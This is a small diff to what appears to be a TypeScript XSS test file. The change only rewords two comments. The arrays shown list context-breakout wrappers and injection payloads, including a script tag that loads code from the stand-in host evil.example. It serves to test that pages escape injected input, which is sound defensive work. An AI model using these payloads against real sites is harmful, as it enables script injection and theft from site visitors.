@@ -1,4 +1,4 @@
-/** What tries to get out of where a text stands, whatever that is: an attribute, a title, a script, a comment. */
+/** Sequences that try to break out of any context of a text: an attribute, a title, a script, a comment. */
 const WAYS_OUT: readonly ((act: string) => string)[] = [
   (act) => act,
   (act) => `">${act}<"`,
@@ -10,7 +10,7 @@ const WAYS_OUT: readonly ((act: string) => string)[] = [
   (act) => `x\u2028*/}\`;${act}//`,
 ];
 
-/** What would run, or leave for another site, once it is out. `ran` is known to every page of the test. */
+/** Payloads that run a script or leave for another site. Every page of the test defines `ran`. */
 const ACTS: readonly string[] = [
   '<script>ran()</script>',
   '<script src=//evil.example/a.js></script>',
